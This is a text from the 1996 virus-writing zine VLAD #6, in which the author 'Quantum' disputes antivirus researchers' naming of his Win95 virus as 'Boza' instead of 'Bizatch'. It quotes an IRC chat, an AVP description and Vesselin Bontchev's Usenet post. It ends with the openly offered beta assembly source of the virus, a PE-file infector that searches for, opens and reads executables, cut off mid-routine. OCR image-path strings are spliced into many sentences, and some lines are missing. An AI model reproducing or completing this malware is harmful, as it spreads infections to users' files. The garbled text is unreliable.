Virus Labs & Distribution
VLAD #6 - The Boza Situation

The Boza Situation by Quantum / VLAD

On the 29th of January 1996 I was directed to an article at about the "world's first win95 virus".  Although
the article stated that the virus was written in Australia - it did not
state by whom the virus was written, and even though vlad was mentioned
(the new object created by Bizatch is ".vlad") it does not actually
state we wrote it.

While I was investigating the appearance, I had this conversation with the
#antivirus moderator, Hermanni:


-> *hermanni* you conscious ?
-> *hermanni* I dont know you.. and I doubt you know me.. but I hear you are
   rather well known in the AV community
*Hermanni* no, i don't think i know you.
-> *hermanni* neways.. do you happen to know a guy by the name of Paul
   Ducklin ?  AVer with a group called Sophos.. ?
*Hermanni* yes, i know paul.
-> *hermanni* ok.. he has written an article and had it placed on the sophos
   www site.. it is about the worlds first win95 virus..
-> *hermanni* I wrote this virus and I have mailed him at that address to
   tell him this and I have gotten no reply -> *hermanni* you see.. hehas
   plucked a name for the virus out of the air he calls it "boza" .. even
   tho there are massive ascii strings in it clearly stating that the virus
   is called "bizatch"
-> *hermanni* eg Please note: the name of this virus is [Bizatch] written by
   Quantum of VLAD
-> *hermanni* rather annoying..
*Hermanni* yes, we're calling to 'Boza' as well. it's a good name.
-> *hermanni* it's NOT a good name.. where did you get "boza" from ?!!?
*Hermanni* well, we called it _3192 for some time, then somebody thought
           'Boza' would be more descriptive.
*Hermanni* i believe solomon and mcafee are calling it Boza as well.
-> *hermanni* calling it boza is not in your best interests.. paul ducklin is
-> *hermanni* going to look rather silly when vlad 6 comes out and it is
-> *hermanni* painfully obvious that the name was made up and the true name
-> *hermanni* was in the middle of the virus.. did you all even look for
-> *hermanni* strings ?
*Hermanni* hey, the name has already been decided.
*Hermanni* too late to complain, i'm afraid.
*Hermanni* do you have any idea how painful it is to get all the antivirus
           venders to change a name of a virus?
-> *hermanni* no.. the name was chosen when I wrote the virus.. the name was
   choosen when it escaped from our test systems and spread to every fewl who
   copies win95 executables..
-> *hermanni* are you aware of how annoying it is to sit and choose a virus
   name only to have it ignored by AV "researchers" ?
 too bad, i gotta gochat with you another time.
 fine.. perhaps Virus Bulletin Magazine will do a better job
 and if they do.. on your square head be it
*** QuantumG has left channel #antivirus


Generally, I think anti-virus authors need to adopt a much moreprofessional

Contrary to Paul Ducklin's claims, he (and Sophos) were not the first
antivirus company to discover this virus.  It seems that AVP was the
first to "discover" it:


     It is not a dangerous parasitic NewEXE(PE)-virus. It searches for
     EXE-files, checks the files for PE signature, then creates in
     EXE-file new section named ".vlad", and writes its code into that
     While infecting that virus uses calls to functions GetDir, SetDir,
     FindFirst, FindNext, OpenFile, LSeek, Read, Write, and CloseFile.
     First, it gets the current directory, and checks the Windows95
     kernel for some specific code. Then the virus searches for
     .EXE-files, and checks them for PE signature. Then the virus
     increases NumberOfSections field in PE-header, writes into the file
     new Section Header that describes new Section in the file, and
     writes itself to the end of the file.
     While executing the virus infects up to 3 files, and looks for
     .EXE-files in parent directories, if there are no more .EXE-files in
     the current one. Before return to the host program the virus
     restores the current directory.
     The virus checks some data (the system date?) and in some cases
     displays the messages:

 Bizatch by Quantum / VLAD
 The taste of fame just got tastier!
 VLAD Australia does it again with the world's first Win95 Virus
 From the old school to the new..
 Absolute Overlord

     The virus also contains the internal text strings:

 Please note: the name of this virus is[Bizatch] written by Quantum of VLAD

     The virus is not bugs-free, and in some cases Windows95 displays the
     error message while executing of infected EXE-files.


The claim of bugs in the virus are not without reason.  There ARE bugs
in the "Boza" virus.  As stated - Boza is a beta of Bizatch.  The bugs
are fixed in the final release (thus the word beta!).

(Quantum made a slight error here in the first release of vlad#6,
 on behalf of him, I'd like to apologise to Sara Gordon.  In the
 future he will make sure he confirms any information he receives.)

Looking through the alt.comp.virus news area, Metabolis came across a posting
by Vesselin Bontchev.  He has replied to it and I will include that reply

>> This morning on local news programs they are reporting (from theUK)
>> discovery of a virus out of Bulgaria called the BOZA virus, which
>> purportedly infects only Windows 95 systems, plus some related executable
>> files, and displays amessage...anyone heard of this or is this just
>> another "chicken little" story...

> The story is rather funny, folks. Here are some "insider" details.> First, the main thing in the story is right - the first Win95-specific
> virus (or, more exactly, the first PE-EXE infector) has been found.
> The rest is... well... a news report.

> The virus is written by the Australian virus writing group VLAD. It
> was intended to be published in the next issue of their virus writing
> electronic newsletter. However, they were obviously so proud with what
> they have done, that they didn't have the patience to wait for the
> official release of the newsletter and "leaked" the virus to the
> anti-virus people. After all, the "avers" know more than anyone else
> about viruses, so they should be the most able to appreciate the new> "achievement".

What you anti virus people have, is a beta of our virus.  We gave it to
a couple of people to test for us, and all of a sudden you guys seem to
have the source.  Leaking source to you would be the last thing I'd do.

> I first heard about this virus from a contact of mine in Germany - but
> didn't get a sample. (And didn't insist one one, BTW. Big deal, a
> PE-EXE infector. When it appears, we'll see it.) A few days ago we
> (CARO) got a sample sent to us by one of our members - Eugene
> Kaspersky; the author of AVP. Another CARO member works for the
> British anti-virus company Sophos. Obviously, Sophos have decided that
> the virus is worth making a noise about it in the media and has
> published a press release - which then has been copied and interpreted
> freely by the major media agencies.

Indeed, yet another media scare which will make you anti virus people a
lot of money, I mean come on.. stop complaining.  We line your pockets.> I, personally, think that the virus is not worth the noise. C'mon,
> folks, it is just a silly non-resident EXE-only infector, which works
> only in 32-bibt environments using the PE-EXE format (like Win95,
> WfW+WinG, or WinNT). FYI, "PE" stands for "Portable Executable". Such
> programs are supposed to be able to run in all the three environments
> mentioned above. On the top of that, the virus is buggy as hell -
> infected files sometimes become megabytes long. In short, it has
> virtually zero chances to spread and become a threat. On the top of
> that, the media quoted Sophos as "one British company", so they didn't
> get even advertising value from their press release. And it was
> certainly not them who discovered the virus.

Well gee, I wonder why the virus is buggy.. it's a beta!!  Not supposed
to be released.  You'll have to wait for the magazine to get the full
release.  As for it being silly, well.. do you see any others around?  Wehad to start somewhere..

> Now, about the virus name. That's the finniest part of the story. The
> virus contains several text strings, among which the phrase "Please
> note: the name of this virus is [Bizatch] written by Quantum of VLAD".
> It seemed that the virus writer who goes under the handle "Quantum"
> *very* much wanted to have "his" virus named "Bizatch". Well, we're
> not in the business of satisfying the virus writers' need for fame, so
> we (CARO) decided to name the virus differently, just inspite. :-)

Do you guys have anything better to be doing other than spiting virus

> But how to name it? Some trivial name was proposed - like V32 (for
> 32-bit virus), but that looked too generic to me. Then I had an
> inspiration! The wannabe name of the virus sounded a bit like the
> [ABulgarian word "boza". In Bulgarian (and probably in Turkish), this
> word means a drink made of millit (and, as the rumour goes, of candies
> that have spoiled), which is semi-liquid and tends to ferment quickly
> (has to be consumed within 48 hours, or it gets spoiled) and has about
> 0.5% alcohol. It is something I call "the undrinkable Bulgarian
> drink", because most foreigners find it of horrible taste and tend to
> throw upafter drinking it - while I (and many Bulgarians) find it
> delicious. :-) The drink has a light-brown color, is semi-liquid and
> looks like - yes, you guessed it.

> Furthermore, there is a Bulgarian slang expression "this is a complete
> 'boza'", meaning that something is totally messed-up/screwed-up (it's
> used only for things; not for situations). This is the expression a
> Bulgarian would use when faced with spagetti code or an incredibly
> buggy program. (Right, Windoze is a complete 'boza' too.) Since the
> virus in question is rather buggy, since there is at least one
>Bulgarian virus writer in Australia (going by the handle "Levski"),
> and since the term has a slightly offensive meaning when applied to a
> program, I thought that it would be a perfect name for this particular
> virus. Well, so it stuck. (The 'boza' is a sticky drink too.) :-)

Levski would like to code a virus I'm sure, but at this moment in time
writing anything in asm would be an impossibility.  Mainly because he
isn't a coder.  Next time you want to accuse someone of something, get
your facts straight first.

> So, to summarize, yes, the Boza virus really exists, yes, it displays
> a message in a window praising its creators, and no, it is not any
> serious threat. As usual, you can ignore almost everything the media
> says about computer viruses. It's real but it's not the end of the
> world, folks. Just yet another stupid virus out there - one which
> (thank goodness) has no chances to spread.

Smuch mi kura.. kogato razbirash kakvoto prikazvash togava el pri men i
mi kaji nechto.  Do togava, pqlni si jobovete s pari or kakvoto nie
pravime i jiveeme za.  Ebi se.



Bontchev, as of most AVers, has a high opinion of himself.  Giving a virus
multiple names will only confuse people whohave the misfortune of coming
incontact with it.  Whoever released this beta of a virus into the wild
was very irresponsible - what's worse is they humiliated me in front of the
VX and AV community.  You have gained yourself at least one enemy.

Here is the beta of Bizatch (the actual virus code) that AV authors
around the world are calling "Boza".

vladseg segment para public 'vlad'
assume cs:vladseg
call recalc
pop ebp
mov eax,ebp
db 2dh
subme dd 30000h + (recalc - vstart)
push eax
sub ebp,offset recalc

mov eax,[ebp + offset kern2]cmp dword ptr [eax],5350fc9ch
jnz notkern2
mov eax,[ebp + offset kern2]
jmp movit
mov eax,[ebp + offset kern1]
cmp dword ptr [eax],5350fc9ch
jnz nopayload
mov eax,[ebp +offset kern1]
mov [ebp + offset kern],eax

lea eax,[ebp + offset orgdir]
push eax
push 255
call GetCurDir

mov byte ptr [ebp + offset countinfect],0


lea eax,[ebp + offset win32_data_thang]
push eax
lea eax,[ebp + offset fname]
push eax
call FindFile

mov dword ptr [ebp + offset searchhandle],eax
cmp eax,-1
jz foundnothing


push 0
push dword ptr [ebp + offset fileattr]
push 3
push 0
push 0
push 80000000h + 40000000h
lea eax,[ebp + offset fullname]
push eax
call CreateFile

mov dword ptr [ebp + offset ahand],eax
cmp eax,-1
jz findnextone

push 0
push 0
push 3ch
push dword ptr [ebp + offset ahand]
call SetFilePointer

push 0
lea eax,[ebp + offset bytesread]
push eax
push 4
lea eax,[ebp + offset peheaderoffset]
push eax
push dword ptr [ebp + offset ahand]
call ReadFile

push 0
push 0
push dword ptr [ebp + offset peheaderoffset]
